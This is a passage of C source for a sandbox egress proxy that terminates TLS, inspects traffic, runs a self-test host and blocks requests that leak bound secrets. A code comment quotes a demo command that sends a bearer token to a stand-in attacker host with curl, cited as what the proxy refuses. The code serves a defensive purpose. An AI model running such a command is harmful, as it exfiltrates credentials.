 * The proxy answers the box itself (a refusal of the inspector, the origin's
 * TLS failure, the self-test): what the origin already sent it and the
 * response go (through the box's TLS when there is one), then close_notify;
 * the origin's socket is closed at once, so nothing more reaches it.
 */
static void t_answer(struct egress_sup *e, struct es *x, int status, const char *rule, const char *message)
{
	struct es_tls *t = x->t;
	struct buf b;
	int r = buf_init(&b, 8192, 0);

	(void)e;
	if (r >= 0) {
		r = status == 204 ? buf_putf(&b, "%s", ES_SELFTEST_204)
				  : egress_sup_response(status, rule, message, &b);
	}
	if (t->box && egress_tls_established(t->box) && !t->box_closed) {
		if (buf_len(&t->down_plain) > 0 &&
		    egress_tls_write(t->box, buf_ptr(&t->down_plain), buf_len(&t->down_plain)) >= 0) {
			buf_reset(&t->down_plain);
		}
		if (r >= 0) {
			r = egress_tls_write(t->box, buf_ptr(&b), buf_len(&b));
		}
		egress_tls_close(t->box);
		t->box_closed = true;
		(void)egress_tls_take(t->box, &x->down);
	} else if (!t->box && r >= 0) {
		(void)buf_put(&x->down, buf_ptr(&t->down_plain), MIN(buf_len(&t->down_plain), buf_avail(&x->down)));
		buf_reset(&t->down_plain);
		(void)buf_put(&x->down, buf_ptr(&b), MIN(buf_len(&b), buf_avail(&x->down)));
	}
	buf_release(&b);
	if (x->fd >= 0) {
		(void)close(x->fd);
		x->fd = -1;
	}
	buf_reset(&x->in); /* the box's later bytes are never read: the stream ends after the answer */
	t->closing = true;
	t->close_reason = status == 204 ? EGRESS_CLOSE_DONE : EGRESS_CLOSE_REFUSED;
	if (status != 204) {
		(void)snprintf(t->rule, sizeof(t->rule), "%s", rule);
		(void)snprintf(t->error, sizeof(t->error), "%s", message);
	}
}

/* secret_use for the first queued use; a use that cannot be told is not recorded, so the request is refused. */
static void t_use_next(struct egress_sup *e, struct es *x)
{
	struct es_tls *t = x->t;
	struct supmsg m = { .op = SUPMSG_SECRET_USE,
			    .conn = x->conn,
			    .secret = e->secrets[t->use_q[0]].name,
			    .host = x->head.host.name };

	if (e->host.send(e->host.ctx, &m) < 0) {
		log_warn("egress: conn %lld: the use of secret %s could not be told to the daemon", (long long)x->conn,
			 e->secrets[t->use_q[0]].name);
		t->n_use = 0;
		egress_insp_use_done(t->insp, false);
		return;
	}
	t->use_sent = true;
}

/* The inspector's events: uses wait for the daemon, leaks and model calls are told. */
static void t_events(struct egress_sup *e, struct es *x)
{
	struct es_tls *t = x->t;
	struct egress_insp_event ev;

	while (egress_insp_event(t->insp, &ev) == 1) {
		if ((ev.type == EGRESS_INSP_USE || ev.type == EGRESS_INSP_LEAK) && ev.secret >= e->n_secrets) {
			continue; /* never: the inspector only knows these secrets */
		}
		if (ev.type == EGRESS_INSP_USE) {
			if (t->n_use < ARRAY_SIZE(t->use_q)) {
				t->use_q[t->n_use++] = ev.secret;
			}
			if (!t->use_sent) {
				t_use_next(e, x);
			}
		} else if (ev.type == EGRESS_INSP_LEAK) {
			struct supmsg m = { .op = SUPMSG_SECRET_LEAK,
					    .conn = x->conn,
					    .secret = e->secrets[ev.secret].name,
					    .host = x->head.host.name,
					    .reason = ev.reason };
			if (e->host.send(e->host.ctx, &m) < 0) {
				log_warn("egress: conn %lld: a leak of secret %s could not be told to the daemon",
					 (long long)x->conn, e->secrets[ev.secret].name);
			}
		} else if (ev.type == EGRESS_INSP_MODEL_CALL) {
			struct supmsg m = { .op = SUPMSG_MODEL_CALL,
					    .conn = x->conn,
					    .host = x->head.host.name,
					    .method = ev.method,
					    .path = ev.path,
					    .status = ev.status,
					    .bytes_up = (int64_t)MIN(ev.bytes_up, (uint64_t)1 << 53),
					    .bytes_down = (int64_t)MIN(ev.bytes_down, (uint64_t)1 << 53),
					    .duration_ms = (int64_t)MIN(ev.duration_ms, (uint64_t)1 << 53),
					    .model = ev.info.model[0] ? ev.info.model : NULL,
					    .input_tokens = ev.info.input_tokens,
					    .output_tokens = ev.info.output_tokens };
			if (e->host.send(e->host.ctx, &m) < 0) {
				log_warn("egress: conn %lld: a model call to %s could not be told to the daemon",
					 (long long)x->conn, x->head.host.name);
			}
		}
	}
}

/* The daemon kept (or could not keep) the use secret_use asked for. */
static void t_secret_ok(struct egress_sup *e, struct es *x, bool ok)
{
	struct es_tls *t = x->t;

	if (!t->use_sent) {
		return;
	}
	t->use_sent = false;
	if (!ok) {
		t->n_use = 0;
		egress_insp_use_done(t->insp, false);
		return;
	}
	memmove(t->use_q, t->use_q + 1, (t->n_use - 1) * sizeof(t->use_q[0]));
	t->n_use--;
	if (t->n_use > 0) {
		t_use_next(e, x);
		return;
	}
	egress_insp_use_done(t->insp, true);
}

/* The box's first ClientHello, read before the TLS server sees a byte. 1: checked; 0: more needed; -1: the conn ended. */
static int t_hello(struct egress_sup *e, struct es *x)
{
	struct egress_ch_info info;
	const char *why = "";
	size_t used = 0, have = buf_len(&x->in) - x->fed;
	int r = have > 0 ? egress_ch_feed(x->ch, buf_ptr(&x->in) + x->fed, have, &used, &info, &why) : 0;

	if (r == 0) {
		x->fed += have;
		if (!x->guest_fin) {
			return 0;
		}
		if (buf_len(&x->in) == 0) {
			es_finish(e, x, EGRESS_CLOSE_DONE, NULL, NULL); /* nothing was sent: a clean end */
			return -1;
		}
		r = -EBADMSG;
		why = "the box ended the tunnel before its TLS ClientHello was complete";
	}
	if (r == 1 && info.has_sni && egress_ch_check_sni(&info, &x->head.host, &why) < 0) {
		es_tunnel_refuse(e, x, "sni-mismatch", why);
		return -1;
	}
	if (r < 0) {
		if (r == -EPROTONOSUPPORT) {
			why = "the tunnel's first bytes are not TLS, and the proxy reads this host's requests "
			      "(a secret is bound to it, --inspect all, or a model host): only TLS passes";
		}
		es_tunnel_refuse(e, x, hello_rule(r, why, false), why);
		return -1;
	}
	x->t->ch_ok = true;
	x->fed = 0;
	free(x->ch); /* its 72 KiB go back */
	x->ch = NULL;
	return 1;
}

/* The box's TLS failed (it does not trust the box's CA, a bad record): the conn ends. */
static void t_box_failed(struct egress_sup *e, struct es *x)
{
	char msg[SUPMSG_MAX_TEXT];
	const char *why = egress_tls_error(x->t->box);

	if (x->t->up_err[0]) {
		t_abort(e, x, "upstream-tls", x->t->up_err); /* the box went before it could hear the 502 */
		return;
	}
	(void)snprintf(msg, sizeof(msg),
		       "the TLS connection from the box to the proxy for %s failed: %s. Clients in the box trust the "
		       "box's CA where the guest installs it (docs/secrets.md); a client with its own trust store "
		       "needs it added",
		       x->head.host.name, why ? why : "unknown error");
	t_abort(e, x, x->state == ES_SELFTEST ? NULL : "box-tls", msg);
}

/* Box bytes: x->in into the box's TLS (or, plain, into box_plain), plaintext out. 0, or -1 the conn ended. */
static int t_box_in(struct egress_sup *e, struct es *x, bool *moved)
{
	struct es_tls *t = x->t;
	int r;

	if (!t->ch_ok && (r = t_hello(e, x)) <= 0) {
		return r;
	}
	while (t->box && buf_len(&x->in) > 0) {
		size_t n = MIN(buf_len(&x->in), ES_TLS_CHUNK);
		r = egress_tls_put(t->box, buf_ptr(&x->in), n);
		if (r == -E2BIG) {
			break;
		}
		if (r < 0) {
			t_box_failed(e, x);
			return -1;
		}
		(void)buf_consume(&x->in, n);
		x->owed += (uint32_t)n;
		*moved = true;
	}
	if (!t->box && buf_len(&x->in) > 0 && buf_avail(&t->box_plain) > 0) {
		size_t n = MIN(buf_len(&x->in), buf_avail(&t->box_plain));
		(void)buf_put(&t->box_plain, buf_ptr(&x->in), n);
		(void)buf_consume(&x->in, n);
		x->owed += (uint32_t)n;
		*moved = true;
	}
	if (x->guest_fin && buf_len(&x->in) == 0 && !t->box_eof_given) {
		t->box_eof_given = true;
		if (t->box) {
			egress_tls_eof(t->box);
		} else {
			t->box_end = true;
		}
	}
	while (t->box && !t->box_end && buf_avail(&t->box_plain) > 0) {
		r = egress_tls_read(t->box, &t->box_plain, MIN(buf_avail(&t->box_plain), (size_t)EGRESS_MAX_DATA));
		(void)egress_tls_take(t->box, &x->down); /* the handshake's answers */
		if (r == -EPIPE) {
			t->box_end = true;
			*moved = true;
			break;
		}
		if (r < 0) {
			t_box_failed(e, x);
			return -1;
		}
		if (r == 0) {
			break;
		}
		*moved = true;
	}
	return 0;
}

/* The box's plaintext through the inspector. 0, or -1 the conn was answered or ended. */
static int t_request(struct egress_sup *e, struct es *x, bool *moved)
{
	struct es_tls *t = x->t;
	int r = 0;

	if (t->up_err[0] && t->box && egress_tls_established(t->box)) {
		t_answer(e, x, 502, "upstream-tls", t->up_err);
		return -1;
	}
	if (!t->insp || egress_insp_waiting(t->insp) || buf_avail(&t->up_plain) < EGRESS_INSP_OUT_MAX) {
		return 0;
	}
	/* Called with no new bytes too: the inspector ends a message, or sends a swapped head, on a later call. */
	{
		size_t used = 0, before = buf_len(&t->up_plain);
		r = egress_insp_request(t->insp, buf_ptr(&t->box_plain), buf_len(&t->box_plain), &used, &t->up_plain);
		(void)buf_consume(&t->box_plain, used);
		*moved = *moved || used > 0 || buf_len(&t->up_plain) != before;
		t_events(e, x);
	}
	if (r >= 0 && t->box_end && !t->box_told && buf_len(&t->box_plain) == 0 && !egress_insp_waiting(t->insp)) {
		t->box_told = true;
		*moved = true;
		r = egress_insp_request_eof(t->insp);
		t_events(e, x);
	}
	if (r == -EACCES) {
		const struct egress_insp_refusal *ref = egress_insp_refusal(t->insp);
		t_answer(e, x, ref->status, ref->rule, ref->message);
		return -1;
	}
	if (r < 0) {
		t_abort(e, x, NULL, "the proxy ran out of room for the request's bytes");
		return -1;
	}
	return 0;
}

/* The origin's TLS failed: before its handshake ended the box gets a 502 (upstream-tls), after it a reset. */
static int t_org_failed(struct egress_sup *e, struct es *x)
{
	struct es_tls *t = x->t;
	const char *why = egress_tls_error(t->org);

	if (egress_tls_established(t->org)) {
		char msg[SUPMSG_MAX_TEXT];
		(void)snprintf(msg, sizeof(msg), "the TLS connection to %s:%u failed: %s", x->head.host.name,
			       x->head.port, why ? why : "unknown error");
		t_abort(e, x, "upstream-tls", msg);
		return -1;
	}
	(void)snprintf(t->up_err, sizeof(t->up_err),
		       "tkbox egress: the TLS connection to %s:%u failed: %s. The proxy verifies every origin it "
		       "reads against the host's trust store and `tkbox daemon --egress-ca FILE`; give the daemon "
		       "the CA that signed this server's certificate",
		       x->head.host.name, x->head.port, why ? why : "unknown error");
	egress_tls_free(t->org);
	t->org = NULL;
	buf_reset(&t->up_wire);
	buf_reset(&t->up_plain);
	if (x->fd >= 0) {
		(void)close(x->fd);
		x->fd = -1;
	}
	if (t->box && egress_tls_established(t->box)) {
		t_answer(e, x, 502, "upstream-tls", t->up_err);
		return -1;
	}
	return 0; /* the 502 waits for the box's handshake (t_request) */
}

/* Towards the origin: the inspector's bytes through its TLS and onto the socket; the origin's plaintext read. */
static int t_origin(struct egress_sup *e, struct es *x, bool *moved)
{
	struct es_tls *t = x->t;
	struct buf *w = t->box ? &t->up_wire : &t->up_plain;
	int r;

	if (t->org) {
		while (buf_len(&t->up_plain) > 0 && egress_tls_established(t->org) &&
		       egress_tls_pending(t->org) + buf_len(&t->up_wire) < ES_WIRE_UP_MAX) {
			size_t n = MIN(buf_len(&t->up_plain), ES_TLS_CHUNK);
			if (egress_tls_write(t->org, buf_ptr(&t->up_plain), n) < 0) {
				return t_org_failed(e, x);
			}
			(void)buf_consume(&t->up_plain, n);
			*moved = true;
		}
		while (!t->org_end && buf_avail(&t->org_plain) > 0) {
			r = egress_tls_read(t->org, &t->org_plain,
					    MIN(buf_avail(&t->org_plain), (size_t)EGRESS_MAX_DATA));
			if (r == -EPIPE) {
				t->org_end = true;
				*moved = true;
				break;
			}
			if (r < 0) {
				(void)egress_tls_take(t->org, &t->up_wire); /* its alert, for the origin's logs */
				return t_org_failed(e, x);
			}
			if (r == 0) {
				break;
			}
			*moved = true;
		}
		if (t->box_told && buf_len(&t->up_plain) == 0 && !t->org_closed && egress_tls_established(t->org)) {
			egress_tls_close(t->org);
			t->org_closed = true;
		}
		(void)egress_tls_take(t->org, &t->up_wire);
	} else if (t->box_told && buf_len(&t->up_plain) == 0) {
		t->org_closed = true;
	}
	while (x->fd >= 0 && (t->org || !t->box) && buf_len(w) > 0) {
		ssize_t n = send(x->fd, buf_ptr(w), buf_len(w), MSG_DONTWAIT | MSG_NOSIGNAL);
		if (n < 0 && (errno == EAGAIN || errno == EINTR)) {
			break;
		}
		if (n < 0) {
			char msg[SUPMSG_MAX_TEXT];
			(void)snprintf(msg, sizeof(msg), "the connection to %s:%u failed: %s", x->head.host.name,
				       x->head.port, tk_strerror(negative_errno()));
			t_abort(e, x, NULL, msg);
			return -1;
		}
		(void)buf_consume(w, (size_t)n);
		x->up += (uint64_t)n;
		*moved = true;
	}
	if (t->org_closed && buf_len(w) == 0 && x->fd >= 0 && !x->shut_wr) {
		if (shutdown(x->fd, SHUT_WR) < 0 && errno != ENOTCONN) {
			t_abort(e, x, NULL, "the connection to the origin could not be half-closed");
			return -1;
		}
		x->shut_wr = true;
	}
	return 0;
}

/* The origin's plaintext through the inspector (redacted), then through the box's TLS. 0, or -1. */
static int t_response(struct egress_sup *e, struct es *x, bool *moved)
{
	struct es_tls *t = x->t;
	int r = 0;

	if (buf_avail(&t->down_plain) >= EGRESS_INSP_OUT_MAX) {
		size_t used = 0, before = buf_len(&t->down_plain);
		r = egress_insp_response(t->insp, buf_ptr(&t->org_plain), buf_len(&t->org_plain), &used,
					 &t->down_plain);
		(void)buf_consume(&t->org_plain, used);
		*moved = *moved || used > 0 || buf_len(&t->down_plain) != before;
		t_events(e, x);
	}
	if (r >= 0 && t->org_end && !t->org_told && buf_len(&t->org_plain) == 0 &&
	    buf_avail(&t->down_plain) >= EGRESS_INSP_OUT_MAX) {
		t->org_told = true;
		*moved = true;
		r = egress_insp_response_eof(t->insp, &t->down_plain);
		t_events(e, x);
	}
	if (r == -EPROTO) {
		const struct egress_insp_refusal *ref = egress_insp_refusal(t->insp);
		if (!egress_insp_response_started(t->insp)) {
			t_answer(e, x, ref->status, ref->rule, ref->message);
		} else {
			t_abort(e, x, ref->rule, ref->message);
		}
		return -1;
	}
	if (r < 0) {
		t_abort(e, x, NULL, "the proxy ran out of room for the response's bytes");
		return -1;
	}
	return 0;
}

/* Redacted bytes towards the box: through its TLS (or as they are) into x->down, within ES_DOWN_MAX. */
static int t_down(struct egress_sup *e, struct es *x, bool *moved)
{
	struct es_tls *t = x->t;

	if (t->box) {
		while (buf_len(&t->down_plain) > 0 && egress_tls_established(t->box) && !t->box_closed &&
		       buf_len(&x->down) + egress_tls_pending(t->box) < ES_DOWN_MAX) {
			size_t n = MIN(buf_len(&t->down_plain), ES_TLS_CHUNK);
			if (egress_tls_write(t->box, buf_ptr(&t->down_plain), n) < 0) {
				t_box_failed(e, x);
				return -1;
			}
			(void)egress_tls_take(t->box, &x->down);
			(void)buf_consume(&t->down_plain, n);
			*moved = true;
		}
		(void)egress_tls_take(t->box, &x->down);
	} else if (buf_len(&t->down_plain) > 0 && buf_avail(&x->down) > 0) {
		size_t n = MIN(buf_len(&t->down_plain), buf_avail(&x->down));
		(void)buf_put(&x->down, buf_ptr(&t->down_plain), n);
		(void)buf_consume(&t->down_plain, n);
		*moved = true;
	}
	return 0;
}

/* The self-test host: one request head over the box's TLS; its first path segment names the client. */
static void t_selftest(struct egress_sup *e, struct es *x)
{
	struct es_tls *t = x->t;
	const char *p = (const char *)buf_ptr(&t->box_plain);
	size_t n = buf_len(&t->box_plain);
	const char *end = n ? memmem(p, n, "\r\n\r\n", 4) : NULL;
	const char *sp = end ? memchr(p, ' ', (size_t)(end - p)) : NULL;

	if (t->answered) {
		return;
	}
	if (!end) {
		if (n >= EGRESS_HEAD_MAX || t->box_end) {
			t_abort(e, x, NULL, "the self-test request head was not complete");
		}
		return;
	}
	t->answered = true;
	if (sp && sp[1] == '/') {
		const char *seg = sp + 2;
		size_t k = strcspn(seg, "/? \r");
		for (size_t i = 0; i < ARRAY_SIZE(selftest_clients); i++) {
			if (k == strlen(selftest_clients[i]) && memcmp(seg, selftest_clients[i], k) == 0) {
				e->selftest_trusted |= 1u << i;
			}
		}
	}
	t_answer(e, x, 204, NULL, NULL);
}

/* Move an inspected conn on until nothing moves; then credit, FIN and the end. */
static void t_pump(struct egress_sup *e, struct es *x)
{
	struct es_tls *t = x->t;
	bool moved = true;

	while (moved && !t->closing) {
		size_t held;

		moved = false;
		if (t_box_in(e, x, &moved) < 0) {
			return;
		}
		if (!t->ch_ok) {
			break;
		}
		if (x->state == ES_SELFTEST) {
			t_selftest(e, x);
			if (x->state == ES_FREE) {
				return;
			}
			break;
		}
		if (t_request(e, x, &moved) < 0 || t_origin(e, x, &moved) < 0 || t_response(e, x, &moved) < 0 ||
		    t_down(e, x, &moved) < 0) {
			if (x->state == ES_FREE) {
				return;
			}
			break;
		}
		/*
		 * What went to the guest made room in x->down, so t_down can move again: that counts as a move.
		 * Nothing else would wake this conn (the origin is not polled while down_plain holds bytes, and
		 * the guest grants again only once a quarter of its window is used and read), so stopping here
		 * stalled it.
		 */
		held = buf_len(&x->down);
		es_push_down(e, x);
		moved = moved || buf_len(&x->down) < held;
	}
	es_push_down(e, x);
	if (x->stream && !x->guest_fin && !t->closing &&
	    (x->owed >= ES_GRANT_MIN || (x->owed > 0 && buf_len(&x->in) == 0))) {
		struct egress_frame f = { .type = EGRESS_WINDOW, .id = x->id, .credit = x->owed };
		if (emit(e, &f) >= 0) {
			x->owed = 0;
		}
	}
	if (t->closing) {
		if (buf_len(&x->down) == 0 && (!t->box || egress_tls_pending(t->box) == 0)) {
			t_end(e, x);
		}
		return;
	}
	if (!t->insp) {
		return; /* the self-test: its answer closes it */
	}
	/* The origin closed, or the exchange ended (absolute form, Connection: close): the box hears the end. */
	if (!t->box_closed && buf_len(&t->down_plain) == 0 &&
	    ((t->org_told && buf_len(&t->org_plain) == 0) || egress_insp_done(t->insp))) {
		if (t->box) {
			egress_tls_close(t->box);
			(void)egress_tls_take(t->box, &x->down);
		}
		t->box_closed = true;
		es_push_down(e, x);
	}
	if (t->box_closed && !x->fin_sent && x->stream && buf_len(&x->down) == 0 &&
	    (!t->box || egress_tls_pending(t->box) == 0)) {
		struct egress_frame f = { .type = EGRESS_FIN, .id = x->id };
		if (emit(e, &f) >= 0) {
			x->fin_sent = true;
		}
	}
	if (x->fin_sent && (x->shut_wr || x->fd < 0 || x->origin_eof || egress_insp_done(t->insp))) {
		es_finish(e, x, EGRESS_CLOSE_DONE, NULL, NULL);
	}
}

/* Origin bytes of an inspected conn: into its TLS (or its plaintext stage). Bytes read, 0, or -errno. */
static int t_pull(struct egress_sup *e, struct es *x)
{
	struct es_tls *t = x->t;
	ssize_t n = recv(x->fd, e->scratch, MIN(ES_ORG_READ, sizeof(e->scratch)), MSG_DONTWAIT);

	if (n < 0) {
		return errno == EAGAIN || errno == EINTR ? 0 : negative_errno();
	}
	if (n == 0) {
		x->origin_eof = true;
		if (t->org) {
			egress_tls_eof(t->org);
		} else {
			t->org_end = true;
		}
		return 0;
	}
	if (t->org) {
		return egress_tls_put(t->org, e->scratch, (size_t)n) < 0 ? -EPROTO : (int)n;
	}
	return buf_put(&t->org_plain, e->scratch, (size_t)n) < 0 ? -ENOMEM : (int)n;
}

static bool t_wants_read(const struct es *x)
{
	const struct es_tls *t = x->t;

	return x->fd >= 0 && !x->origin_eof && !t->closing && buf_len(&t->org_plain) == 0 &&
	       buf_len(&t->down_plain) == 0 && buf_len(&x->down) < ES_DOWN_MAX;
}

static bool t_wants_write(const struct es *x)
{
	const struct es_tls *t = x->t;

	return x->fd >= 0 && buf_len(t->box ? &t->up_wire : &t->up_plain) > 0;
}

/* ---------------------------------------------------------------- the self-test host (issue 13, spec step 11) */

/* "/done?ran=a,b&clock_ms=N": ran a comma list of distinct [a-z0-9]{1,16}, at most SUPMSG_MAX_SELFTEST; N decimal. */
static int selftest_query(const char *p, size_t n, char ran[][17], size_t *ret_n, int64_t *ret_ms)
{
	static const char pre[] = "/done?ran=", mid[] = "&clock_ms=";
	const char *q = p + sizeof(pre) - 1, *end = p + n, *amp;
	size_t k = 0, digits;
	int64_t ms = 0;

	if (n < sizeof(pre) - 1 || memcmp(p, pre, sizeof(pre) - 1) != 0) {
		return -EBADMSG;
	}
	amp = memchr(q, '&', (size_t)(end - q));
	if (!amp || (size_t)(end - amp) < sizeof(mid) - 1 || memcmp(amp, mid, sizeof(mid) - 1) != 0) {
		return -EBADMSG;
	}
	while (q < amp) {
		const char *c = memchr(q, ',', (size_t)(amp - q)), *te = c ? c : amp;
		size_t len = (size_t)(te - q);
		if (len < 1 || len > 16 || k >= SUPMSG_MAX_SELFTEST) {
			return -EBADMSG;
		}
		for (size_t i = 0; i < len; i++) {
			if (!((q[i] >= 'a' && q[i] <= 'z') || (q[i] >= '0' && q[i] <= '9'))) {
				return -EBADMSG;
			}
		}
		memcpy(ran[k], q, len);
		ran[k][len] = '\0';
		for (size_t j = 0; j < k; j++) {
			if (strcmp(ran[j], ran[k]) == 0) {
				return -EBADMSG;
			}
		}
		k++;
		q = c ? c + 1 : amp;
		if (c && q == amp) {
			return -EBADMSG; /* a trailing comma */
		}
	}
	q = amp + sizeof(mid) - 1;
	digits = (size_t)(end - q);
	if (digits < 1 || digits > 15) {
		return -EBADMSG;
	}
	for (size_t i = 0; i < digits; i++) {
		if (q[i] < '0' || q[i] > '9') {
			return -EBADMSG;
		}
		ms = ms * 10 + (q[i] - '0');
	}
	*ret_n = k;
	*ret_ms = ms;
	return 0;
}

/* A refusal of the self-test host: 403 rule selftest, told like the proxy's other refusals. */
static void selftest_refuse(struct egress_sup *e, struct es *x, const char *why)
{
	char msg[SUPMSG_MAX_TEXT];

	(void)snprintf(
		msg, sizeof(msg),
		"tkbox egress: %s refused: %s. The host is served by the proxy itself for the box's boot-time TLS "
		"self-test (docs/secrets.md); nothing else is sent there",
		EGRESS_SELFTEST_HOST, why);
	es_respond(e, x, 403, "selftest", msg);
	tell_refused(e, "selftest", msg, x);
	es_free(x);
}

/* GET http://tkbox-selftest.invalid/done?...: the self-test's result, told once (selftest), answered 204. */
static void selftest_done(struct egress_sup *e, struct es *x)
{
	char ran[SUPMSG_MAX_SELFTEST][17];
	char *ranv[SUPMSG_MAX_SELFTEST + 1] = { 0 }, *trusted[ARRAY_SIZE(selftest_clients) + 1] = { 0 };
	size_t n_ran = 0, n_trusted = 0;
	int64_t clock_ms = 0;
	struct timespec ts;
	struct supmsg m = { .op = SUPMSG_SELFTEST };

	if (x->head.method != EGRESS_METHOD_GET || selftest_query((const char *)buf_ptr(&x->in) + x->head.path_off,
								  x->head.path_len, ran, &n_ran, &clock_ms) < 0) {
		selftest_refuse(e, x,
				"only GET /done?ran=<clients>&clock_ms=<ms> is served over plain HTTP (ran: at most 8 "
				"distinct [a-z0-9]{1,16}, comma-separated)");
		return;
	}
	if (e->selftest_done || e->stopping) {
		selftest_refuse(e, x, "the box's self-test result was already recorded; it is taken once per box");
		return;
	}
	(void)clock_gettime(CLOCK_REALTIME, &ts);
	for (size_t i = 0; i < n_ran; i++) {
		ranv[i] = ran[i];
	}
	for (size_t i = 0; i < ARRAY_SIZE(selftest_clients); i++) {
		if (e->selftest_trusted & (1u << i)) {
			trusted[n_trusted++] = (char *)selftest_clients[i];
		}
	}
	m.ran = ranv;
	m.n_ran = n_ran;
	m.trusted = trusted;
	m.n_trusted = n_trusted;
	m.clock_offset_ms = clock_ms - ((int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000);
	e->selftest_done = true;
	if (e->host.send(e->host.ctx, &m) < 0) {
		es_respond(
			e, x, 503, "selftest",
			"tkbox egress: the self-test result could not be told to the daemon; see `tkbox logs` on the "
			"host");
		es_free(x);
		return;
	}
	send_text(e, x, ES_SELFTEST_204, strlen(ES_SELFTEST_204));
	send_close(e, x, EGRESS_CLOSE_DONE);
	es_free(x);
}

/* CONNECT tkbox-selftest.invalid:443 with a CA: a TLS server with its leaf, one request, 204. */
static void selftest_connect(struct egress_sup *e, struct es *x)
{
	SSL_CTX *ctx = NULL;
	int r;

	if (!e->ca) {
		selftest_refuse(e, x,
				"the box has no CA (it has no secret, no --inspect all and no model preset), so the "
				"self-test host is not served over TLS");
		return;
	}
	if (x->head.port != 443) {
		selftest_refuse(e, x, "only port 443 is served over TLS");
		return;
	}
	r = egress_ca_server_ctx(e->ca, EGRESS_SELFTEST_HOST, &ctx);
	r = r < 0 ? r : t_new(x, true, &x->t);
	r = r < 0 ? r : egress_tls_server_new(ctx, &x->t->box);
	if (r < 0) {
		es_respond(e, x, 503, "selftest",
			   "tkbox egress: the proxy could not serve the self-test host over TLS");
		es_free(x);
		return;
	}
	(void)buf_consume(&x->in, x->head.head_len);
	x->owed += (uint32_t)x->head.head_len;
	send_text(e, x, ES_ESTABLISHED, strlen(ES_ESTABLISHED));
	x->state = ES_SELFTEST;
	t_pump(e, x);
}

/* A complete head: the self-test host is served here, every other is asked of the daemon. */
static void es_local(struct egress_sup *e, struct es *x)
{
	if (strcmp(x->head.host.name, EGRESS_SELFTEST_HOST) != 0) {
		es_ask(e, x);
	} else if (x->head.kind == EGRESS_REQ_CONNECT) {
		selftest_connect(e, x);
	} else {
		selftest_done(e, x);
	}
}

/* Where in a request head p[0..n) the byte at off is, for a leak's text; never a name that holds a value. */
static void head_where(const struct egress_sup *e, const uint8_t *p, size_t n, size_t off, char *out, size_t size)
{
	size_t ls = off, colon;

	while (ls > 0 && p[ls - 1] != '\n') {
		ls--;
	}
	if (ls == 0) {
		(void)snprintf(out, size, "the request line");
		return;
	}
	for (colon = ls; colon < n && p[colon] != ':' && p[colon] != '\r'; colon++) {
	}
	if (off < colon || colon >= n || p[colon] != ':' || colon - ls > EGRESS_SECRET_HEADER_MAX) {
		(void)snprintf(out, size, "a header's name");
		return;
	}
	for (size_t i = 0; i < e->n_secrets; i++) {
		if (egress_secret_in(&e->secrets[i], p + ls, colon - ls)) {
			(void)snprintf(out, size, "a header");
			return;
		}
	}
	(void)snprintf(out, size, "header %.*s", (int)(colon - ls), (const char *)p + ls);
}

/*
 * A box with secrets: a value or a placeholder in a request head (either
 * form) is a leak, refused before the daemon is asked, so no approval is
 * ever asked for it and nothing is dialled (the reference demo: curl -H
 * "Authorization: Bearer $GH" http://evil.example/ blocked at once).
 * secret_leak goes with conn 0. True when the request was refused.
 */
static bool es_head_leak(struct egress_sup *e, struct es *x)
{
	const uint8_t *p = buf_ptr(&x->in);
	const char *host = x->head.host.name;
	struct egress_leak_match lm;
	const struct egress_secret *s;
	char desc[128], where[EGRESS_SECRET_HEADER_MAX + 32], bound[512] = "", msg[SUPMSG_MAX_TEXT], reason[256];
	struct supmsg m = { .op = SUPMSG_SECRET_LEAK, .conn = 0, .host = (char *)host, .reason = reason };

	if (e->secrets_state != SECRETS_LOADED || !e->leak ||
	    egress_leak_find(e->leak, EGRESS_LEAK_VALUES | EGRESS_LEAK_PLACEHOLDERS, p, x->head.head_len, &lm) != 1 ||
	    lm.secret >= e->n_secrets) {
		return false;
	}
	s = &e->secrets[lm.secret];
	egress_leak_describe(e->leak, e->secrets, &lm, desc, sizeof(desc));
	head_where(e, p, x->head.head_len, lm.off, where, sizeof(where));
	for (size_t i = 0; i < s->n_hosts; i++) {
		size_t k = strlen(bound);
		(void)snprintf(bound + k, sizeof(bound) - k, "%s%s", i ? ", " : "", s->hosts[i]);
	}
	if (egress_secret_bound(s, host)) {
		(void)snprintf(msg, sizeof(msg),
			       "tkbox egress: the request to %s carried %s in %s (rule secret-leak); the proxy swaps a "
			       "secret in only over HTTPS it terminates, never over plain HTTP: send it to https://%s",
			       host, desc, where, host);
	} else {
		(void)snprintf(
			msg, sizeof(msg),
			"tkbox egress: the request to %s carried %s in %s (rule secret-leak); secrets go only to "
			"their bound hosts (%s) in header %s. To send it elsewhere, bind it: tkbox run --secret "
			"%s=...@%s",
			host, desc, where, bound, s->header, s->name, host);
	}
	(void)snprintf(reason, sizeof(reason), "%s: %s", where, desc);
	m.secret = (char *)s->name;
	if (e->host.send(e->host.ctx, &m) < 0) {
		log_warn("egress: a leak of secret %s to %s could not be told to the daemon", s->name, host);
	}
	es_respond(e, x, 403, "secret-leak", msg);
	es_free(x);
	return true;
}

/* ---------------------------------------------------------------- secrets */

static void secrets_clear(struct egress_sup *e)
{
	egress_leak_set_free(e->leak);
	e->leak = NULL;
	for (size_t i = 0; i < e->n_secrets; i++) {
		if (e->secrets[i].value) {
			secmem_free(e->secrets[i].value, e->secrets[i].value_len);
		}
	}
	explicit_bzero(e->secrets, sizeof(e->secrets));
	e->n_secrets = 0;
}

static int text_copy(char *dst, size_t size, const char *src)
{
	size_t n = src ? strlen(src) : 0;

	if (!src || n >= size) {
		return -EBADMSG;
	}
	memcpy(dst, src, n + 1);
	return 0;
}

/* The secrets message: the values, back to back in the sealed memfd, into secmem; the leak set built. */
static int secrets_load(struct egress_sup *e, const struct supmsg *m, int fd)
{
	struct stat st;
	uint64_t total = 0, off = 0;
	int r = 0;

	if (m->n_secrets > EGRESS_SECRET_MAX) {
		return -E2BIG;
	}
	for (size_t i = 0; i < m->n_secrets; i++) {
		if (m->secrets[i].len < EGRESS_SECRET_VALUE_MIN || m->secrets[i].len > EGRESS_SECRET_VALUE_MAX) {
			return -EBADMSG;
		}
		total += (uint64_t)m->secrets[i].len;
	}
	if (fstat(fd, &st) < 0) {
		return negative_errno();
	}
	if (st.st_size < 0 || (uint64_t)st.st_size != total) {
		return -EBADMSG;
	}
	for (size_t i = 0; i < m->n_secrets && r >= 0; i++) {
		const struct supmsg_secret *in = &m->secrets[i];
		struct egress_secret *s = &e->secrets[i];
		size_t len = (size_t)in->len;

		e->n_secrets = i + 1; /* cleared with the rest whatever happens next */
		r = text_copy(s->name, sizeof(s->name), in->name);
